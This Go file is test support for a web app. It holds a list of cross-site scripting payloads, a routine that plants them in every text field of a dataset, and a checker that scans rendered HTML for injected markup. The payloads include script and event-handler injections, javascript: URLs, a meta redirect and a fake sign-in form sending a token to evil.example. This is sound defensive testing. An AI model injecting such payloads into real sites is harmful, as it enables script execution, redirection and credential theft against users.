// Package hostile is test support: markup payloads, a dataset whose every
// text field carries one, and a check of HTML for anything a payload
// created. The tests of the server and the browser tests use it; no binary
// imports it.
//
// Every payload that creates an element marks it with the attribute
// data-pbx, and every script it would run sets window.__pbx, so a check
// cannot mistake the app's own markup for an injection.
package hostile

import (
	"bytes"
	"fmt"
	"reflect"
	"strings"

	"golang.org/x/net/html"

	"powerbrokers/dataset"
)

// Payloads break out of attribute values (double- and single-quoted, with
// and without a backslash before the quote) and of raw-text elements, and
// add elements, event handlers, a refresh, a form and javascript: URLs.
var Payloads = []string{
	`"><img src=x onerror="window.__pbx=1" data-pbx=1>`,
	`'><img src=x onerror=window.__pbx=1 data-pbx=1>`,
	`\"><svg onload="window.__pbx=1" data-pbx=1><script data-pbx>window.__pbx=1</script></svg>`,
	`</title></textarea></script><script data-pbx>window.__pbx=1</script>`,
	`"><meta http-equiv="refresh" content="0;url=https://evil.example/" data-pbx>`,
	`javascript:window.__pbx=1`,
	`" onmouseover="window.__pbx=1" onfocus="window.__pbx=1" autofocus data-pbx="`,
	`"><form action="https://evil.example/" data-pbx><input name="token"><button>Sign in</button></form>`,
	`"><a href="javascript:window.__pbx=1" data-pbx>click</a>`,
	`x\`,
	`&#34;><b data-pbx>&quot;</b>`,
}

// Short is a payload for fields with a short limit (a ticker: 16).
const Short = `"><b data-pbx>`

// Combined is every payload in one string, for sweeps over many inputs.
var Combined = strings.Join(Payloads, " ")

// Fill puts a payload into every text field of the first deal, miner and
// site of d (and the counterparty and aggregate they use) that still
// validates with it: enumerations, references and dates refuse any payload
// and keep their value. It returns the fields it filled, as
// "file: record: field".
func Fill(d *dataset.Dataset) []string {
	return FillWith(d, Payloads)
}

// FillWith is Fill with other payloads: field i takes payloads[i mod n], or
// the next that validates.
func FillWith(d *dataset.Dataset, payloads []string) []string {
	var filled []string
	i := 0
	try := func(file, id, path string, set func(string), old string) {
		candidates := append([]string{}, payloads[i%len(payloads):]...)
		candidates = append(candidates, payloads[:i%len(payloads)]...)
		candidates = append(candidates, Short)
		if strings.HasSuffix(path, "url") {
			for j, p := range candidates {
				candidates[j] = "https://x.example/" + p
			}
		}
		i++
		for _, p := range candidates {
			set(p)
			if d.Validate() == nil {
				filled = append(filled, file+": "+id+": "+path)
				return
			}
		}
		set(old)
	}
	fill := func(file, id string, rec any) {
		walk(reflect.ValueOf(rec).Elem(), "", func(path string, v reflect.Value) {
			if path == "id" {
				return
			}
			old := v.String()
			try(file, id, path, func(s string) { v.SetString(s) }, old)
		})
	}
	if len(d.Deals) > 0 {
		dl := &d.Deals[0]
		fill(dataset.FileDeals, dl.ID, dl)
		for j := range d.Counterparties {
			if d.Counterparties[j].ID == dl.Tenant {
				fill(dataset.FileCounterparties, d.Counterparties[j].ID, &d.Counterparties[j])
			}
		}
	}
	if len(d.Miners) > 0 {
		fill(dataset.FileMiners, d.Miners[0].ID, &d.Miners[0])
	}
	if len(d.Sites) > 0 {
		fill(dataset.FileSites, d.Sites[0].ID, &d.Sites[0])
	}
	if len(d.Aggregates) > 0 {
		fill(dataset.FileAggregates, d.Aggregates[0].ID, &d.Aggregates[0])
	}
	return filled
}

// walk calls f for every settable string in v.
func walk(v reflect.Value, path string, f func(string, reflect.Value)) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			walk(v.Elem(), path, f)
		}
	case reflect.String:
		if v.CanSet() {
			f(path, v)
		}
	case reflect.Slice:
		for i := 0; i < v.Len(); i++ {
			walk(v.Index(i), fmt.Sprintf("%s[%d]", path, i), f)
		}
	case reflect.Struct:
		t := v.Type()
		for i := 0; i < t.NumField(); i++ {
			name, _, _ := strings.Cut(t.Field(i).Tag.Get("json"), ",")
			if !t.Field(i).IsExported() || name == "-" {
				continue
			}
			p := name
			if path != "" {
				p = path + "." + name
			}
			walk(v.Field(i), p, f)
		}
	}
}

// urlAttrs are the attributes whose value a browser follows as a URL.
var urlAttrs = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "xlink:href": true, "data": true, "poster": true}

// Check returns what in the HTML document b a payload created: an element
// or attribute marked data-pbx, an event handler attribute, an inline
// script (other than the page's one start script, id="pb-wasm-start", in
// the head, which the CSP allows by its hash), a <meta http-equiv> other
// than the CSP, a <base>, or a javascript: URL. Empty means none.
func Check(b []byte) []string {
	var bad []string
	inBody, startScripts := false, 0
	z := html.NewTokenizer(bytes.NewReader(b))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return bad
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		inBody = inBody || tok.Data == "body"
		hasSrc, id := false, ""
		for _, a := range tok.Attr {
			key := strings.ToLower(a.Key)
			switch {
			case key == "data-pbx":
				bad = append(bad, fmt.Sprintf("<%s data-pbx>", tok.Data))
			case strings.HasPrefix(key, "on"):
				bad = append(bad, fmt.Sprintf("<%s %s=%q>", tok.Data, key, a.Val))
			case urlAttrs[key] && strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:"):
				bad = append(bad, fmt.Sprintf("<%s %s=%q>", tok.Data, key, a.Val))
			case tok.Data == "meta" && key == "http-equiv" && !strings.EqualFold(a.Val, "Content-Security-Policy"):
				bad = append(bad, fmt.Sprintf("<meta http-equiv=%q>", a.Val))
			}
			if key == "src" {
				hasSrc = true
			}
			if key == "id" {
				id = a.Val
			}
		}
		switch {
		case tok.Data == "script" && !hasSrc && id == "pb-wasm-start" && !inBody && startScripts == 0:
			startScripts++
		case tok.Data == "script" && !hasSrc:
			bad = append(bad, "an inline <script>")
		case tok.Data == "base":
			bad = append(bad, "<base>")
		}
	}
}

// Values returns every text and attribute value of the HTML document b,
// as a browser decodes them, so a test can show that a payload arrived.
func Values(b []byte) []string {
	var out []string
	z := html.NewTokenizer(bytes.NewReader(b))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return out
		case html.TextToken:
			out = append(out, string(z.Text()))
		case html.StartTagToken, html.SelfClosingTagToken:
			for _, a := range z.Token().Attr {
				out = append(out, a.Val)
			}
		}
	}
}

// Contains reports whether the HTML document b holds s in one of its text
// or attribute values.
func Contains(b []byte, s string) bool {
	for _, v := range Values(b) {
		if strings.Contains(v, s) {
			return true
		}
	}
	return false
}
